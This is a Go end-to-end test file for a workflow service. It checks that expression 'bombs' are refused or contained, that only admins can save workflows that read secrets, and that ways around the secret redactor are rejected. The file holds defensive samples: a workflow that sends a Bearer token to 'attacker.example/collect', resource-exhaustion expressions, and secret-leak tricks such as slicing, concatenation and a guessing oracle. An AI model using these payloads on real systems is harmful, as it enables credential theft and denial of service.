package e2e_test

import (
	"aias/pkg/aias"
	"context"
	"encoding/json"
	"fmt"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
)

// refusal is a problem+json answer.
type refusal struct {
	Code   string `json:"code"`
	Errors []struct {
		Path    string `json:"path"`
		Message string `json:"message"`
	} `json:"errors"`
}

// mustRefuse posts a definition and expects status and code, with the first
// field error at path when path is set.
func (s *system) mustRefuse(key, method, url, yaml string, status int, code, path, message string) {
	s.t.Helper()
	r := s.do(method, url, key, "application/yaml", yaml)
	var p refusal
	if r.Status == status {
		r.json(s.t, &p)
	}
	if r.Status != status || p.Code != code {
		s.t.Fatalf("%s %s = %d %s, want %d %s", method, url, r.Status, r.Body, status, code)
	}
	if path != "" && (len(p.Errors) == 0 || p.Errors[0].Path != path || !strings.Contains(p.Errors[0].Message, message)) {
		s.t.Fatalf("%s %s errors = %+v, want one at %s containing %q", method, url, p.Errors, path, message)
	}
}

// doublingKey is the review's bomb: a short concurrency_key whose string
// doubles with every let. from is what the first string is built of.
func doublingKey(from string) string {
	src := fmt.Sprintf("let a0 = repeat(%s, 999999);", from)
	for i := 1; i <= 10; i++ {
		src += fmt.Sprintf(" let a%d = a%d + a%d;", i, i-1, i-1)
	}
	return src + " a10"
}

// The review's expression bombs, through the public intake URL and a
// manual run: what can be known when the workflow is saved is a 400 with
// the field's path; the rest reaches no expression in the ingress (which
// answers 202 as usual, its memory bounded) and fails its run for good in
// the worker, within the step's timeout.
//
// Not parallel: the heap's high-water mark is read around the bombs.
func TestExpressionBombsAreRefusedAtSaveOrFailTheirRunsWithoutHurtingTheIngress(t *testing.T) {
	s := start(t, options{})
	acme := s.signup("bombs")

	s.mustRefuse(acme.Key, "POST", "/api/v1/workflows", fmt.Sprintf(`
name: literal-bomb
concurrency_key: %q
steps:
  - { name: a, type: transform, with: { output: "1" } }
`, doublingKey(`"x"`)), 400, "validation_failed", "concurrency_key", "more than the 32 MiB an expression may build")
	s.mustRefuse(acme.Key, "POST", "/api/v1/workflows", `
name: repeat-bomb
steps:
  - { name: a, type: transform, with: { output: "repeat('x', 999999999)" } }
`, 400, "validation_failed", "steps[0].with.output", "more than the 32 MiB an expression may build")

	keyed := s.createWorkflow(acme.Key, fmt.Sprintf(`
name: keyed-bomb
concurrency_key: %q
steps:
  - { name: a, type: transform, with: { output: "1" } }
`, doublingKey("trigger.body.x")))
	hook := s.createEndpoint(acme.Key, keyed)
	slow := s.createEndpoint(acme.Key, s.createWorkflow(acme.Key, `
name: regex-in-reduce
steps:
  - name: scan
    type: transform
    timeout: 1s
    with: { output: "reduce(1..12000, #acc + (trigger.body.text matches '(a|b)*c$' ? 1 : 0), 0)" }
`))
	big := s.createEndpoint(acme.Key, s.createWorkflow(acme.Key, `
name: big-output
steps:
  - { name: a, type: transform, with: { output: "map(1..200000, trigger.body.x)" } }
`))
	plain := s.createEndpoint(acme.Key, s.createWorkflow(acme.Key, `
name: plain
steps:
  - { name: a, type: transform, with: { output: "trigger.body.x" } }
`))

	defer debug.SetGCPercent(debug.SetGCPercent(10))
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	var runs []string
	for _, d := range []struct{ url, body string }{
		{hook, `{"x":"x"}`},
		{slow, fmt.Sprintf(`{"text":%q}`, strings.Repeat("ab", 20_000))},
		{big, `{"x":"xxxxxxxx"}`},
	} {
		st, id := s.post(d.url, d.body)
		if st != 202 {
			t.Fatalf("delivery to %s = %d, want 202", d.url, st)
		}
		runs = append(runs, id)
	}
	runs = append(runs, s.manualRunWith(acme.Key, keyed, `{"x":"x"}`))
	wants := []string{
		"step concurrency_key: expression stopped: it would build more than 32 MiB",
		"step scan: expression stopped",
		"step a: output takes more than 1 MiB, the most a step may store",
		"step concurrency_key: expression stopped: it would build more than 32 MiB",
	}
	for i, id := range runs {
		r := s.waitRun(acme.Key, id, "succeeded", "failed", "dead")
		if r.Status != "failed" || r.Error == nil || !strings.Contains(*r.Error, wants[i]) {
			t.Errorf("run %d = %s (%v), want failed: %q", i, r.Status, deref(r.Error), wants[i])
		}
		if r.Attempt != 1 {
			t.Errorf("run %d took %d attempts, want 1: the failure is permanent", i, r.Attempt)
		}
	}
	runtime.ReadMemStats(&after)
	if grew := int64(after.HeapSys) - int64(before.HeapSys); grew > 256<<20 {
		t.Errorf("the bombs grew the heap by %d MiB, want under 256 MiB", grew>>20)
	}
	if st, id := s.post(plain, `{"x":"still here"}`); st != 202 || s.waitRun(acme.Key, id, "succeeded", "failed").Status != "succeeded" {
		t.Errorf("a delivery after the bombs = %d, want 202 and its run to succeed", st)
	}
}

// manualRunWith starts a run through the API with body as trigger.body.
func (s *system) manualRunWith(key, workflowID, body string) string {
	s.t.Helper()
	out, err := s.client(key).TriggerWorkflow(context.Background(), workflowID, json.RawMessage(body))
	if err != nil {
		s.t.Fatalf("TriggerWorkflow: %v", err)
	}
	return out.RunID
}

func deref(s *string) string {
	if s == nil {
		return ""
	}
	return *s
}

const secretWorkflow = `
name: notify
steps:
  - name: call
    type: http
    with:
      url: "https://api.example.com/orders"
      headers: { Authorization: "Bearer {{ secrets.ORDERS_TOKEN }}" }
`

// Members cannot read secrets, so they cannot save a workflow that sends
// one anywhere: saving or updating a definition that reads secrets needs an
// admin's key. A member may still save workflows without secrets, and
// remove secrets from one.
func TestOnlyAdminsMaySaveAWorkflowThatReadsSecrets(t *testing.T) {
	t.Parallel()
	s := start(t, options{})
	acme, other := s.signup("owner-a"), s.signup("owner-b")
	member, admin := s.mintKey(acme, "member"), s.mintKey(acme, "admin")

	exfiltrate := strings.Replace(secretWorkflow, "https://api.example.com/orders", "https://attacker.example/collect", 1)
	s.mustRefuse(member, "POST", "/api/v1/workflows", exfiltrate, 403, "secrets_need_admin", "", "")
	wf := s.createWorkflow(admin, secretWorkflow)
	s.mustRefuse(member, "PUT", "/api/v1/workflows/"+wf, exfiltrate, 403, "secrets_need_admin", "", "")
	theirs := s.createWorkflow(other.Key, secretWorkflow)
	s.mustRefuse(member, "PUT", "/api/v1/workflows/"+theirs, exfiltrate, 404, "not_found", "", "")

	ctx := context.Background()
	versions, err := s.client(admin).ListWorkflowVersions(ctx, wf)
	if err != nil || len(versions) != 1 {
		t.Fatalf("the workflow has %d versions (%v), want 1: the member's update stored nothing", len(versions), err)
	}
	without := strings.Replace(secretWorkflow, `headers: { Authorization: "Bearer {{ secrets.ORDERS_TOKEN }}" }`, `body: trigger.body`, 1)
	asMember := s.client(member)
	if _, err := asMember.UpdateWorkflow(ctx, wf, aias.YAML([]byte(without))); err != nil {
		t.Errorf("member update removing the secret = %v, want saved", err)
	}
	if _, err := asMember.CreateWorkflow(ctx, aias.YAML([]byte(strings.Replace(without, "name: notify", "name: plain", 1)))); err != nil {
		t.Errorf("member save without secrets = %v, want saved", err)
	}
}

// Each way around the redactor is refused when the workflow is saved, at
// the path of the field, whoever saves it.
func TestEveryWayOfMakingSomethingOfASecretIsRefusedAtSave(t *testing.T) {
	t.Parallel()
	s := start(t, options{})
	acme := s.signup("bypass")
	const whole = "a secret may only be used whole"
	const placement = "secrets may only be used in an http step's url, headers and body"
	for _, tt := range []struct{ name, step, path, message string }{
		{"a transformed secret in an error", `{ name: s, type: http, with: { url: "https://x.example", body: "int(secrets.T[1:])" } }`, "steps[0].with.body", whole},
		{"upper", `{ name: s, type: http, with: { url: "https://x.example", body: "upper(secrets.T)" } }`, "steps[0].with.body", whole},
		{"slicing", `{ name: s, type: http, with: { url: "https://x.example/{{ secrets.T[0:4] }}" } }`, "steps[0].with.url", whole},
		{"concatenation", `{ name: s, type: http, with: { url: "https://x.example", headers: { X-T: "{{ 'a' + secrets.T }}" } } }`, "steps[0].with.headers.X-T", whole},
		{"a guessing oracle", `{ name: s, type: http, with: { url: "https://x.example", body: "secrets.T == 'guess'" } }`, "steps[0].with.body", whole},
		{"a transform's output", `{ name: s, type: transform, with: { output: "secrets.T" } }`, "steps[0].with.output", placement},
		{"a log line", `{ name: s, type: log, with: { message: "{{ secrets.T }}" } }`, "steps[0].with.message", placement},
		{"log fields", `{ name: s, type: log, with: { message: "m", fields: { t: "secrets.T" } } }`, "steps[0].with.fields.t", placement},
		{"an artifact", `{ name: s, type: artifact, with: { name: "a.txt", content: "secrets.T" } }`, "steps[0].with.content", placement},
		{"a callback", `{ name: s, type: callback, with: { url: "https://x.example", body: "secrets.T" } }`, "steps[0].with.body", placement},
	} {
		yaml := fmt.Sprintf("name: bypass\nsteps:\n  - %s\n", tt.step)
		s.mustRefuse(acme.Key, "POST", "/api/v1/workflows", yaml, 400, "validation_failed", tt.path, tt.message)
	}
}
